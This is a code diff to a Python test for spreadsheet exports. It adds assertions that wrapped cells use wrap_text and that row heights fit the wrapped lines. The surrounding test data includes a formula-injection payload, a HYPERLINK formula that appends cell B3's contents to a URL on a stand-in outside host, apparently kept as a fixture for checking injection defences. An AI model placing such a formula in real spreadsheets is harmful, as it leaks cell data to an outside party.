@@ -8,7 +8,7 @@ from datetime import datetime
 from openpyxl import load_workbook
 from openpyxl.utils import get_column_letter
 
-from backend.kernel.sheets import MAX_WIDTH, PADDING, display_width
+from backend.kernel.sheets import MAX_WIDTH, PADDING, display_width, wrapped_lines
 
 INJECTIONS = (
     '=HYPERLINK("http://e.x/?"&B3,"查看")',
@@ -40,8 +40,11 @@ def check_layout(ws, headers: tuple[str, ...] | list[str], *, header_row: int, p
         assert width >= min(display_width(header), MAX_WIDTH) + PADDING, (header, width)
         assert width <= MAX_WIDTH + PADDING, (header, width)
         for (cell,) in ws.iter_rows(min_row=header_row + 1, min_col=index, max_col=index):
-            if isinstance(cell.value, str) and display_width(cell.value) > width - PADDING:
+            if isinstance(cell.value, str) and (display_width(cell.value) > width - PADDING or "\n" in cell.value):
                 assert cell.alignment.wrap_text, (header, cell.value)
+                # tall enough for every line: LibreOffice does not grow a row for wrapped text itself
+                lines = wrapped_lines(cell.value, width)
+                assert (ws.row_dimensions[cell.row].height or 15) >= 15 * lines, (header, cell.value, lines)
         total += width
     setup = ws.page_setup
     assert int(setup.paperSize) == 9  # A4
